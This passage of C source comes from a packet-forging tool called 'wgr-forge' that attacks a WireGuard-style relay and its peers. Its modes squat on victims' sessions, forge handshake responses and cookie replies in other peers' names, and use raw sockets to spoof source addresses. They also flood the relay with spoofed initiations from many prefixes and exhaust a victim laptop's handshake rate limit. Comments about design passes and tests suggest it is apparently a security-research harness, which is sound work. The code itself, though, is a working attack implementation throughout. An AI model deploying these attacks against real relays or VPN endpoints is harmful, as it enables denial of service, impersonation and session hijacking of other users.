	if (hs->cookie_time && now_s() - hs->cookie_time < 110) {
		set_mac2(msg, 148, hs->cookie);
		(*mac2)++;
	}
	hs->last_sender = sender;
	hs->last_pub = pub;
	send(hs->fd, msg, sizeof(msg), 0);
}

struct spoofer;
static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen);

/* Does @msg, an initiation, carry a valid mac1 for @pub? */
static bool initiation_for(const uint8_t *msg, const uint8_t *pub)
{
	uint8_t copy[148];

	memcpy(copy, msg, sizeof(copy));
	set_mac1(copy, 116, pub);
	return !memcmp(copy + 116, msg + 116, 16);
}

/* Where a staging is (hold, cookieslot): B's bait sent, A's try, B's answer. */
struct staging {
	int phase;	/* 0 idle, 1 bait sent, 2 target sent, 3 responded (4: cookieslot's) */
	double next, t_target;
	uint32_t s_index;
	long tries;
};

/*
 * A staging's sends at @t: every 5 s B asks for @bait, so that it is a
 * discovery candidate; 0.2 s later A asks for @target with a fresh index.
 */
static void staging_tick(struct staging *st, struct hsock hs[2], const uint8_t *bait,
			 const uint8_t *target, double t, long *with_mac2)
{
	if (t >= st->next) {
		uint32_t idx;

		fill_random(&idx, sizeof(idx));
		hsock_initiate(&hs[1], bait, idx, with_mac2);
		st->phase = 1;
		st->t_target = t + 0.2;
		st->next = t + 5;
		st->tries++;
	}
	if (st->phase == 1 && t >= st->t_target) {
		fill_random(&st->s_index, sizeof(st->s_index));
		hsock_initiate(&hs[0], target, st->s_index, with_mac2);
		st->phase = 2;
	}
}

/*
 * SIGTERM ends cookieslot, drain or respdrain early, with its report: a test
 * stops it when done.
 */
static volatile sig_atomic_t slot_stop;

static void slot_term(int sig)
{
	(void)sig;
	slot_stop = 1;
}

/*
 * respdrain (design pass 10, R1): hold squats VICTIM (x) at A; from then on
 * initiations for x without mac2, spoofed "from" the laptop's endpoint, which
 * the relay takes to x's binding, A. Every copy of one for x that reaches A (or
 * B, should the relay copy it there) is answered with two responses naming the
 * laptop, the second half a period later, so that they reach the laptop evenly
 * spaced. A loaded laptop answers a response without its mac2 with a cookie
 * reply on the response's sender index, and the relay passes it on to where
 * the response came from. Its cookie is sealed under HASH("cookie--" || the
 * laptop's public key) with the response's mac1 as associated data, both known
 * here: from then on every response carries the laptop's mac2, and each spends
 * a token of the laptop's handshake rate limit for the relay's address.
 */
#define RD_SENT 64
#define RD_QUEUE 64

struct respdrain {
	int fd[2];		/* A and B, made before WGR_FORGE_SPOOF_NETNS is entered */
	struct spoofer *spoof;	/* "from" the laptop's endpoint, to the relay */
	uint8_t laptop[32], cookie[16];
	double cookie_time, next_spoof, period;
	bool squatted;
	/* The last RD_SENT responses: sender index, and mac1 (a cookie's associated data). */
	struct { uint32_t index; uint8_t mac1[16]; } sent[RD_SENT];
	unsigned int n_sent;
	/* Second answers, due half a period after the first. */
	struct { double due; int fd; uint32_t receiver; } q[RD_QUEUE];
	unsigned int q_len;
	long spoofed, answered, opened, stamped, responses, bad_tags;
};

/* A response naming the laptop to @receiver, from @fd, with its mac2 if the cookie is fresh. */
static void rd_respond(struct respdrain *rd, int fd, uint32_t receiver)
{
	uint8_t msg[92];
	uint32_t idx = make_response(msg, receiver, rd->laptop);
	bool stamp = rd->cookie_time && now_s() - rd->cookie_time < 120;

	memset(msg + 76, 0, 16);
	if (stamp)
		set_mac2(msg, sizeof(msg), rd->cookie);
	if (send(fd, msg, sizeof(msg), 0) < 0)
		return;
	rd->responses++;
	rd->stamped += stamp;
	rd->sent[rd->n_sent % RD_SENT].index = idx;
	memcpy(rd->sent[rd->n_sent++ % RD_SENT].mac1, msg + 60, 16);
}

/* A copy for x reached @fd at @t: one answer now, one half a period later. */
static void rd_answer(struct respdrain *rd, int fd, uint32_t sender, double t)
{
	rd->answered++;
	rd_respond(rd, fd, sender);
	if (rd->q_len == RD_QUEUE) {
		rd_respond(rd, fd, sender);
		return;
	}
	rd->q[rd->q_len].due = t + rd->period / 2;
	rd->q[rd->q_len].fd = fd;
	rd->q[rd->q_len++].receiver = sender;
}

/*
 * A cookie reply @msg (64 bytes): the laptop's, if it answers one of the last
 * responses; its cookie is kept if its tag is right. Return: true if it was one.
 */
static bool rd_cookie(struct respdrain *rd, const uint8_t *msg)
{
	uint32_t receiver = get_le32(msg + 4);
	unsigned int n = rd->n_sent < RD_SENT ? rd->n_sent : RD_SENT;
	uint8_t cookie[16];

	for (unsigned int i = 0; i < n; i++) {
		if (rd->sent[i].index != receiver)
			continue;
		if (!cookie_open_checked(cookie, msg, rd->sent[i].mac1, rd->laptop)) {
			rd->bad_tags++;
			return true;
		}
		if (!rd->opened++) {
			printf("respdrain: the laptop's cookie opened: its mac2 on every response "
			       "from now on\n");
			fflush(stdout);
		}
		memcpy(rd->cookie, cookie, 16);
		rd->cookie_time = now_s();
		return true;
	}
	return false;
}

/* What is due at @t: the spoofed initiations for @x once squatted, the second answers. */
static void rd_tick(struct respdrain *rd, const uint8_t *x, double t)
{
	uint8_t msg[148];

	if (rd->squatted && t >= rd->next_spoof) {
		marked_initiation(msg, x);
		memset(msg + 132, 0, 16);
		if (!spoofer_send(rd->spoof, msg, sizeof(msg)))
			rd->spoofed++;
		rd->next_spoof += rd->period;
		if (rd->next_spoof < t)
			rd->next_spoof = t + rd->period;
	}
	for (unsigned int j = 0; j < rd->q_len;) {
		if (rd->q[j].due > t) {
			j++;
			continue;
		}
		rd_respond(rd, rd->q[j].fd, rd->q[j].receiver);
		rd->q[j] = rd->q[--rd->q_len];
	}
}

/*
 * hold, and squat: with @keys2 (BAIT2, TARGET2), once a staging has passed (or a
 * third of the time is up) the next ones use BAIT2 and TARGET2 with the same
 * VICTIM, from the same sockets: A, where the relay now has VICTIM, asks for
 * TARGET2 as VICTIM. With @rd, respdrain (above) once a staging has passed,
 * from @rd's sockets; other initiations are then left unanswered.
 */
static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, char **keys,
		char **keys2, bool self_index, struct spoofer *from_victim,
		struct spoofer *from_target, char **others, int n_others, struct respdrain *rd)
{
	uint8_t k[3][32], k2[2][32], msg[1600];	/* bait, target, victim */
	struct held held[HOLD_MAX];
	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
	unsigned int n_held = 0, next_held = 0;
	long staged = 0, copies = 0, answered = 0, data = 0, fwd_data = 0;
	long cookies = 0, with_mac2 = 0, confirms = 0, evictions = 0;
	uint8_t other[8][32];
	double start = now_s(), next_data = start + 5;
	struct staging st = { 0 };
	uint32_t r_index = 0;

	if (!parse_keys(k, keys, 3) || (keys2 && !parse_keys(k2, keys2, 2)) ||
	    n_others > 8 || (n_others && !parse_keys(other, others, n_others))) {
		fprintf(stderr, "wgr-forge: hold needs three base64 public keys, squat five, "
				"holdconfirm up to eight more\n");
		return 2;
	}
	hs[0].fd = rd ? rd->fd[0] : stage_socket(to, len);
	hs[1].fd = rd ? rd->fd[1] : stage_socket(to, len);
	while (!slot_stop && now_s() - start < seconds) {
		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
					 { .fd = hs[1].fd, .events = POLLIN } };
		double t = now_s();

		if (keys2 && (staged || t - start > seconds / 3.0)) {
			printf("squat: %s, now staging with the second bait and target\n",
			       staged ? "staged" : "not staged in a third of the time");
			fflush(stdout);
			memcpy(k[0], k2[0], 32);
			memcpy(k[1], k2[1], 32);
			keys2 = NULL;
		}
		staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
		if (t >= next_data) {
			for (unsigned int i = 0; i < n_held; i++) {
				make_data(msg, held[i].index, held[i].counter++);
				if (send(held[i].fd, msg, 32, 0) >= 0)
					data++;
			}
			next_data = t + 5;
		}
		if (rd)
			rd_tick(rd, k[2], t);
		if (poll(pfd, 2, rd ? 5 : 50) <= 0)
			continue;
		for (int i = 0; i < 2; i++) {
			int fd = hs[i].fd;
			ssize_t n;

			if (!(pfd[i].revents & POLLIN))
				continue;
			n = recv(fd, msg, sizeof(msg), MSG_DONTWAIT);
			if (n < 4)
				continue;
			if (msg[0] == 1 && n == 148) {
				uint32_t sender = get_le32(msg + 4);

				copies++;
				if (i == 1 && st.phase == 2 && sender == st.s_index) {
					/* Our own staged initiation: answer as VICTIM's partner. */
					r_index = make_response(msg, st.s_index, k[2]);
					send(fd, msg, 92, 0);
					st.phase = 3;
					continue;
				}
				if (rd) {
					/* One of the spoofed ones (or x's, anyway): the laptop answers. */
					if (initiation_for(msg, k[2]))
						rd_answer(rd, fd, sender, t);
					continue;
				}
				/* A real peer's initiation: answer in every name. */
				struct spoofer *from = NULL;
				uint32_t answers[3];

				if (from_victim && initiation_for(msg, k[1]))
					from = from_victim;
				else if (from_target && initiation_for(msg, k[2]))
					from = from_target;
				for (int j = 0; j < 3; j++) {
					if (self_index) {
						/* Its own sender index is the initiation's. */
						answers[j] = sender;
						response_from(msg, k[j], sender, sender);
					} else {
						answers[j] = make_response(msg, sender, k[j]);
					}
					if (send(fd, msg, 92, 0) >= 0)
						answered++;
				}
				/* And confirm them in the initiator's name, once passed on. */
				for (int j = 0; from && j < 3; j++) {
					if (!j)
						usleep(100000);
					make_data(msg, answers[j], 0);
					if (!spoofer_send(from, msg, 32))
						confirms++;
				}
				/* Then push its tries to its partner out, if that works. */
				for (int j = 0; from && j < n_others; j++) {
					make_initiation(msg, other[j]);
					if (!spoofer_send(from, msg, 148))
						evictions++;
				}
			} else if (rd && msg[0] == 3 && n == 64 && rd_cookie(rd, msg)) {
				/* The laptop's cookie, passed on by the relay. */
			} else if (msg[0] == 3 && n == 64 && hs[i].last_pub &&
				   get_le32(msg + 4) == hs[i].last_sender) {
				/* The relay's cookie: its key is the target's public key. */
				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
				hs[i].cookie_time = now_s();
				cookies++;
			} else if (msg[0] == 2 && n == 92 && i == 0 && st.phase == 3 &&
				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
				/* The relay passed our response on: confirm it, hold both indices. */
				make_data(msg, r_index, 0);
				send(fd, msg, 32, 0);
				staged++;
				st.phase = 0;
				held[next_held] = (struct held){ hs[0].fd, r_index, 1 };
				next_held = (next_held + 1) % HOLD_MAX;
				held[next_held] = (struct held){ hs[1].fd, st.s_index, 0 };
				next_held = (next_held + 1) % HOLD_MAX;
				n_held = n_held + 2 > HOLD_MAX ? HOLD_MAX : n_held + 2;
				if (rd && !rd->squatted) {
					rd->squatted = true;
					rd->next_spoof = t;
					printf("squatted x at A\n");
					fflush(stdout);
				}
			} else if (msg[0] == 4) {
				fwd_data++;
			}
		}
	}
	printf("hold: %ld stagings tried, %ld passed by the relay; %ld relay cookies, %ld "
	       "initiations with mac2; %ld initiation copies received, %ld forged responses "
	       "to them; %ld data sent on held indices, %ld data received\n",
	       st.tries, staged, cookies, with_mac2, copies, answered, data, fwd_data);
	if (from_victim)
		printf("confirm: %ld forged answers confirmed in their initiator's name, %ld "
		       "initiations for others spoofed after them\n", confirms, evictions);
	if (rd)
		printf("respdrain: %ld responses naming the laptop, %ld cookie replies with a wrong "
		       "tag\nspoofed %ld\ncopies answered %ld\nlaptop cookies opened %ld\n"
		       "responses with the laptop's mac2 %ld\n", rd->responses, rd->bad_tags,
		       rd->spoofed, rd->answered, rd->opened, rd->stamped);
	return 0;
}

static int onedata(int argc, char **argv)
{
	struct sockaddr_storage to;
	uint8_t msg[32];
	socklen_t len;
	int fd, one = 1;

	if (argc < 7 || argc > 8 || !(len = parse_ep(&to, argv[2], argv[3]))) {
		fprintf(stderr, "usage: wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]\n");
		return 2;
	}
	fd = socket(to.ss_family, SOCK_DGRAM, 0);
	if (fd < 0)
		return perror("socket"), 1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind_port(fd, &to, len, atoi(argv[4])))
		return perror("wgr-forge: onedata: bind"), 1;
	if (argc == 8) {
		int ttl = atoi(argv[7]);

		if (to.ss_family == AF_INET ? setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl)) :
		    setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &ttl, sizeof(ttl)))
			return perror("wgr-forge: onedata: TTL"), 1;
	}
	make_data(msg, (uint32_t)strtoul(argv[5], NULL, 16), strtoull(argv[6], NULL, 10));
	if (sendto(fd, msg, sizeof(msg), 0, (struct sockaddr *)&to, len) < 0)
		return perror("wgr-forge: onedata: sendto"), 1;
	close(fd);
	return 0;
}

struct spoofer {
	int fd;
	struct sockaddr_storage src, dst;
	socklen_t len;
};

static int spoofer_open(struct spoofer *s, const char *saddr, const char *sport,
			const char *daddr, const char *dport)
{
	if (!(s->len = parse_ep(&s->dst, daddr, dport)) || !parse_ep(&s->src, saddr, sport) ||
	    s->src.ss_family != s->dst.ss_family) {
		fprintf(stderr, "wgr-forge: spoof: bad or mixed addresses\n");
		return 2;
	}
	s->fd = raw_hdrincl_socket(s->dst.ss_family);
	if (s->fd < 0)
		return perror("wgr-forge: raw socket"), 1;
	return 0;
}

/* Send @payload in a UDP datagram from s->src to s->dst, headers built here. */
static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
{
	struct sockaddr_storage dst;
	uint8_t pkt[1700];
	struct udphdr *uh;
	size_t hl;
	uint32_t sum;

	memset(pkt, 0, sizeof(pkt));
	if (s->dst.ss_family == AF_INET) {
		struct iphdr *ip = (struct iphdr *)pkt;
		struct sockaddr_in *src = (struct sockaddr_in *)&s->src;
		struct sockaddr_in *dst = (struct sockaddr_in *)&s->dst;

		hl = sizeof(*ip);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->tot_len = htons((uint16_t)(hl + 8 + plen));
		ip->saddr = src->sin_addr.s_addr;
		ip->daddr = dst->sin_addr.s_addr;
		ip->check = htons(csum_fold(csum_add(0, ip, hl)));
		uh = (struct udphdr *)(pkt + hl);
		uh->source = src->sin_port;
		uh->dest = dst->sin_port;
		sum = csum_add(0, &ip->saddr, 8);
	} else {
		struct ip6_hdr *ip6 = (struct ip6_hdr *)pkt;
		struct sockaddr_in6 *src = (struct sockaddr_in6 *)&s->src;
		struct sockaddr_in6 *dst = (struct sockaddr_in6 *)&s->dst;

		hl = sizeof(*ip6);
		ip6->ip6_flow = htonl(6u << 28);
		ip6->ip6_plen = htons((uint16_t)(8 + plen));
		ip6->ip6_nxt = IPPROTO_UDP;
		ip6->ip6_hlim = 64;
		ip6->ip6_src = src->sin6_addr;
		ip6->ip6_dst = dst->sin6_addr;
		uh = (struct udphdr *)(pkt + hl);
		uh->source = src->sin6_port;
		uh->dest = dst->sin6_port;
		sum = csum_add(0, &ip6->ip6_src, 32);
	}
	uh->len = htons((uint16_t)(8 + plen));
	memcpy(pkt + hl + 8, payload, plen);
	sum += IPPROTO_UDP + 8 + (uint32_t)plen;
	uh->check = htons(csum_fold(csum_add(sum, uh, 8 + plen)));
	if (!uh->check)
		uh->check = 0xffff;
	/* A raw IPv6 socket reads sin6_port as a protocol number: none here. */
	dst = s->dst;
	if (dst.ss_family == AF_INET6)
		((struct sockaddr_in6 *)&dst)->sin6_port = 0;
	if (sendto(s->fd, pkt, hl + 8 + plen, 0, (struct sockaddr *)&dst, s->len) < 0)
		return perror("wgr-forge: spoof: sendto"), 1;
	return 0;
}

/*
 * cookieslot: first a staging as hold's: B initiates to BAIT (a discovery
 * candidate then), A to TARGET, every 5 s until A's tries with the relay's mac2
 * are failing and copied to B, which answers in VICTIM's name; A confirms. The
 * relay then has a session of TARGET's at B, and a pair route from A to it.
 * From then on A initiates to TARGET once a second without mac2, which the
 * route takes to B alone (TARGET never sees them, so never answers them), and B
 * answers each with two cookie replies sealed in TARGET's name, 30 ms and
 * 300 ms later. Data on both staged indices every 5 s keeps the session live.
 *
 * With @argv[8] and [9], TARGET's own endpoint E (helper-82, P1): once a second
 * socket C also sends TARGET an initiation without mac2, and at once a cookie
 * reply to it spoofed "from" E (so that the relay probes E and waits for E's
 * answer); 30 ms later (after E's own answer) the newest probe of the relay's
 * that reached B is answered by a reply spoofed "from" E, sealed with that
 * probe's mac1 around a cookie of the attacker's.
 */
#define SLOT_QUEUE 64
#define SLOT_SENT 8

static int cookieslot(int argc, char **argv)
{
	struct { double due; uint32_t sender; uint8_t mac1[16]; } q[SLOT_QUEUE];
	uint32_t r_index = 0, sent_idx[SLOT_SENT] = { 0 }, idx;
	long seconds = argc == 8 || argc == 10 ? strtol(argv[4], NULL, 10) : 0;
	long routed = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
	long probes = 0, planted = 0;
	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
	double start, next_routed = 0, next_data = 0;
	struct spoofer from_target;
	uint32_t held_sender = 0;
	uint8_t held_mac1[16];
	double plant_answer = 0;
	int c_fd = -1;
	struct sockaddr_storage ss = { 0 };
	uint8_t k[3][32], msg[1600];	/* bait, target, victim */
	unsigned int q_len = 0, n_sent = 0;
	struct staging st = { 0 };	/* phase 4: staged */
	uint64_t counter = 1;
	socklen_t sslen;

	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
	    !parse_keys(k, argv + 5, 3)) {
		fprintf(stderr, "usage: wgr-forge cookieslot ADDR PORT SECONDS(1..3600) "
				"PUB_BAIT PUB_TARGET PUB_VICTIM [TARGET_ADDR TARGET_PORT]\n");
		return 2;
	}
	if (argc == 10) {
		if (spoofer_open(&from_target, argv[8], argv[9], argv[2], argv[3]))
			return 1;
		c_fd = stage_socket(&ss, sslen);
	}
	signal(SIGTERM, slot_term);
	hs[0].fd = stage_socket(&ss, sslen);
	hs[1].fd = stage_socket(&ss, sslen);
	start = now_s();
	while (!slot_stop && now_s() - start < seconds) {
		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
					 { .fd = hs[1].fd, .events = POLLIN } };
		double t = now_s();

		if (st.phase < 4)
			staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
		if (st.phase == 4 && t >= next_routed) {
			/* No mac2: the pair route, not the binding, takes it. */
			fill_random(&idx, sizeof(idx));
			initiation_from(msg, k[1], idx);
			memset(msg + 132, 0, 16);
			if (send(hs[0].fd, msg, 148, 0) >= 0)
				routed++;
			sent_idx[n_sent++ % SLOT_SENT] = idx;
			next_routed = t + 1;
			if (c_fd >= 0) {
				/* The relay probes E, and waits for its answer. */
				uint8_t reply[64];

				idx = make_initiation(msg, k[1]);
				memset(msg + 132, 0, 16);
				send(c_fd, msg, 148, 0);
				cookie_forge(reply, idx, msg + 116, k[1]);
				if (!spoofer_send(&from_target, reply, sizeof(reply)))
					planted++;
				/* Right after E's own answer to that probe. */
				plant_answer = t + 0.03;
			}
		}
		if (plant_answer && t >= plant_answer && held_sender) {
			cookie_forge(msg, held_sender, held_mac1, k[1]);
			if (!spoofer_send(&from_target, msg, 64))
				planted++;
			held_sender = 0;
			plant_answer = 0;
		}
		if (st.phase == 4 && t >= next_data) {
			make_data(msg, r_index, counter);
			send(hs[0].fd, msg, 32, 0);
			make_data(msg, st.s_index, counter++);
			send(hs[1].fd, msg, 32, 0);
			next_data = t + 5;
		}
		for (unsigned int j = 0; j < q_len;) {
			if (q[j].due > t) {
				j++;
				continue;
			}
			cookie_forge(msg, q[j].sender, q[j].mac1, k[1]);
			if (send(hs[1].fd, msg, 64, 0) >= 0)
				forged++;
			q[j] = q[--q_len];
		}
		if (poll(pfd, 2, 5) <= 0)
			continue;
		for (int i = 0; i < 2; i++) {
			ssize_t n;

			if (!(pfd[i].revents & POLLIN))
				continue;
			n = recv(hs[i].fd, msg, sizeof(msg), MSG_DONTWAIT);
			if (i == 1 && n == 148 && msg[0] == 1) {
				uint32_t sender = get_le32(msg + 4);
				bool ours = false;

				copies++;
				for (unsigned int j = 0; j < SLOT_SENT; j++)
					ours |= n_sent && sent_idx[j] == sender;
				if (st.phase == 2 && sender == st.s_index) {
					/* Our own staged initiation: answer as VICTIM's partner. */
					r_index = make_response(msg, st.s_index, k[2]);
					send(hs[1].fd, msg, 92, 0);
					st.phase = 3;
				} else if (st.phase == 4 && ours && initiation_for(msg, k[1]) &&
					   q_len + 2 <= SLOT_QUEUE) {
					for (int a = 0; a < 2; a++) {
						q[q_len].due = t + (a ? 0.3 : 0.03);
						q[q_len].sender = sender;
						memcpy(q[q_len++].mac1, msg + 116, 16);
					}
				} else if (st.phase == 4 && c_fd >= 0 && !ours &&
					   initiation_for(msg, k[1])) {
					/* The relay's probe of B: held, answered "from" E. */
					probes++;
					held_sender = sender;
					memcpy(held_mac1, msg + 116, 16);
				}
			} else if (n == 64 && msg[0] == 3 && hs[i].last_pub &&
				   get_le32(msg + 4) == hs[i].last_sender) {
				/* The relay's cookie: its key is the target's public key. */
				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
				hs[i].cookie_time = now_s();
				cookies++;
			} else if (i == 0 && n == 92 && msg[0] == 2 && st.phase == 3 &&
				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
				/* The relay passed our response on: confirm it. */
				make_data(msg, r_index, 0);
				send(hs[0].fd, msg, 32, 0);
				st.phase = 4;
				next_data = t + 5;
				printf("cookieslot: staged after %ld tries: forging from now on\n", st.tries);
				fflush(stdout);
			}
		}
	}
	printf("cookieslot: %ld stagings tried, %s; %ld relay cookies, %ld initiations with "
	       "mac2; %ld routed initiations for the target, %ld initiations received at B, "
	       "%ld cookie replies forged in the target's name\n", st.tries,
	       st.phase == 4 ? "one passed" : "none passed", cookies, with_mac2, routed, copies,
	       forged);
	if (c_fd >= 0)
		printf("cookieslot: %ld probes received at B; %ld cookie replies spoofed from the "
		       "target's endpoint\n", probes, planted);
	return forged ? 0 : 1;
}

/*
 * cookieplant: from socket A, an initiation for TARGET once a second (no mac2:
 * the relay forwards it to TARGET's binding with zeros, and records it), and at
 * once two cookie replies to it spoofed "from" TARGET's endpoint, sealed in
 * TARGET's name around a cookie of the attacker's. They reach the relay before
 * TARGET's own reply, which then finds the endpoint's two answers spent.
 */
static int cookieplant(int argc, char **argv)
{
	long seconds = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
	struct sockaddr_storage ss = { 0 };
	uint8_t pub[32], msg[148], reply[64];
	long sent = 0, planted = 0;
	struct spoofer from;
	socklen_t sslen;
	double start;
	int fd;

	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
	    !key_from_base64(pub, argv[5])) {
		fprintf(stderr, "usage: wgr-forge cookieplant ADDR PORT SECONDS(1..3600) PUB_TARGET "
				"TARGET_ADDR TARGET_PORT\n");
		return 2;
	}
	if (spoofer_open(&from, argv[6], argv[7], argv[2], argv[3]))
		return 1;
	signal(SIGTERM, slot_term);
	fd = stage_socket(&ss, sslen);
	start = now_s();
	while (!slot_stop && now_s() - start < seconds) {
		uint32_t idx = make_initiation(msg, pub);

		memset(msg + 132, 0, 16);
		if (send(fd, msg, sizeof(msg), 0) >= 0)
			sent++;
		for (int i = 0; i < 2; i++) {
			cookie_forge(reply, idx, msg + 116, pub);
			if (!spoofer_send(&from, reply, sizeof(reply)))
				planted++;
		}
		usleep(1000000);
	}
	printf("cookieplant: %ld initiations for the target, %ld cookie replies spoofed from its "
	       "endpoint\n", sent, planted);
	return planted ? 0 : 1;
}

static int spoof(int argc, char **argv)
{
	struct spoofer s;
	uint8_t pub[32] = { 0 }, msg[1600];
	unsigned long long counter = 0;
	unsigned long index = 0;
	int ret, index_mode = 0;
	long count, pps = argc > 9 ? strtol(argv[9], NULL, 10) : 10;
	struct timespec next;
	bool marked;

	if (argc < 8 || argc > 10 || (argc > 8 && !key_from_base64(pub, argv[8])) ||
	    pps <= 0 || pps > 1000) {
		fprintf(stderr, "usage: wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT "
				"[PUBKEY [PPS(1..1000)]]\n");
		return 2;
	}
	count = strtol(argv[7], NULL, 10);
	if (!strncmp(argv[6], "data=", 5)) {
		char *end;

		index_mode = -1;
		index = strtoul(argv[6] + 5, &end, 16);
		if (*end == ':' && end != argv[6] + 5) {
			counter = strtoull(end + 1, &end, 10);
			if (!*end)
				index_mode = 1;
		}
	}
	marked = !strcmp(argv[6], "marked");
	if (count <= 0 || count > 100000 || index_mode < 0 ||
	    (!index_mode && !marked && !make(argv[6], msg, pub) && strcmp(argv[6], "garbage"))) {
		fprintf(stderr, "wgr-forge: spoof: bad MODE or COUNT (1..100000)\n");
		return 2;
	}
	ret = spoofer_open(&s, argv[2], argv[3], argv[4], argv[5]);
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long i = 0; !ret && i < count; i++) {
		if (index_mode) {
			make_data(msg, (uint32_t)index, counter++);
			ret = spoofer_send(&s, msg, 32);
		} else if (marked) {
			marked_initiation(msg, pub);
			ret = spoofer_send(&s, msg, 148);
		} else {
			ret = spoofer_send(&s, msg, make(argv[6], msg, pub));
		}
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	return ret;
}

/*
 * Initiations without mac2 for @pub, spoofed from many endpoints of one prefix:
 * NADDR addresses from SPOOF_BASE up (its last byte counts), NPORTS ports each
 * from 40000, the next endpoint for each datagram, so that each is new to the
 * relay again once it has forgotten it.
 */
static int srcflood(int argc, char **argv)
{
	struct spoofer s;
	struct timespec next;
	uint8_t pub[32], msg[148], *last;
	long seconds, pps, naddr, nports, sent = 0;
	int base;

	if (argc != 10 || (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
	    (naddr = strtol(argv[7], NULL, 10)) <= 0 || naddr > 256 ||
	    (nports = strtol(argv[8], NULL, 10)) <= 0 || nports > 4096 ||
	    !key_from_base64(pub, argv[9])) {
		fprintf(stderr, "usage: wgr-forge srcflood ADDR PORT SECONDS(1..3600) PPS(1..10000) "
				"SPOOF_BASE NADDR(1..256) NPORTS(1..4096) PUBKEY\n");
		return 2;
	}
	if (spoofer_open(&s, argv[6], "40000", argv[2], argv[3]))
		return 1;
	last = s.src.ss_family == AF_INET ?
	       (uint8_t *)&((struct sockaddr_in *)&s.src)->sin_addr + 3 :
	       &((struct sockaddr_in6 *)&s.src)->sin6_addr.s6_addr[15];
	base = *last;
	if (base + naddr > 256) {
		fprintf(stderr, "wgr-forge: srcflood: %s plus %ld addresses leaves its last byte\n",
			argv[6], naddr);
		return 2;
	}
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long k = 0; k < seconds * pps; k++) {
		*last = (uint8_t)(base + k % naddr);
		set_port(&s.src, htons((uint16_t)(40000 + (k / naddr) % nports)));
		make_initiation(msg, pub);
		if (!spoofer_send(&s, msg, sizeof(msg)))
			sent++;
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	printf("srcflood: %ld initiations from %ld endpoints\n", sent, naddr * nports);
	return 0;
}

/*
 * Move @ss (an IPv4 or IPv6 address) @k prefixes up from @base: IPv4 /24s (its
 * top three bytes count), IPv6 /48s (bytes 4 and 5 count). False if that
 * leaves the family's prefix bits.
 */
static bool prefix_step(struct sockaddr_storage *ss, const struct sockaddr_storage *base, long k)
{
	*ss = *base;
	if (ss->ss_family == AF_INET) {
		struct in_addr *a = &((struct sockaddr_in *)ss)->sin_addr;
		uint32_t h = ntohl(a->s_addr);

		if ((h >> 8) + (uint32_t)k > 0xffffff)
			return false;
		a->s_addr = htonl(h + ((uint32_t)k << 8));
		return true;
	}
	uint8_t *b = ((struct sockaddr_in6 *)ss)->sin6_addr.s6_addr;
	uint32_t p = (uint32_t)b[4] << 8 | b[5];

	if (p + (uint32_t)k > 0xffff)
		return false;
	p += (uint32_t)k;
	b[4] = (uint8_t)(p >> 8);
	b[5] = (uint8_t)p;
	return true;
}

/* Initiations without mac2 for @pub, one spoofed endpoint in each of many prefixes. */
static int thinflood(int argc, char **argv)
{
	struct sockaddr_storage base;
	struct timespec next;
	struct spoofer s;
	uint8_t pub[32], msg[148];
	long seconds, pps, nprefixes, sent = 0;

	if (argc != 9 || (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
	    (nprefixes = strtol(argv[7], NULL, 10)) <= 0 || nprefixes > 65536 ||
	    !key_from_base64(pub, argv[8])) {
		fprintf(stderr, "usage: wgr-forge thinflood ADDR PORT SECONDS(1..3600) "
				"PPS(1..10000) SPOOF_BASE NPREFIXES(1..65536) PUBKEY\n");
		return 2;
	}
	if (spoofer_open(&s, argv[6], "40000", argv[2], argv[3]))
		return 1;
	base = s.src;
	if (!prefix_step(&s.src, &base, nprefixes - 1)) {
		fprintf(stderr, "wgr-forge: thinflood: %s plus %ld prefixes leaves the address space\n",
			argv[6], nprefixes);
		return 2;
	}
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long k = 0; k < seconds * pps; k++) {
		prefix_step(&s.src, &base, k % nprefixes);
		make_initiation(msg, pub);
		if (!spoofer_send(&s, msg, sizeof(msg)))
			sent++;
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	printf("thinflood: %ld initiations from %ld prefixes\n", sent, nprefixes);
	return 0;
}


/*
 * One staging of spoofstage's: socket @a initiates to @k[0] (@marked: with
 * marked_initiation()); a response naming @k[1] goes from @s's forged source;
 * if the relay passes it on to @a, @a sends the first data on it, and three
 * more, on the index set in @staged (if not NULL). Return: 1 if passed on, 0
 * if not, -1 if the raw socket failed.
 */
static int spoof_stage_once(int a, struct spoofer *s, uint8_t k[2][32], bool marked,
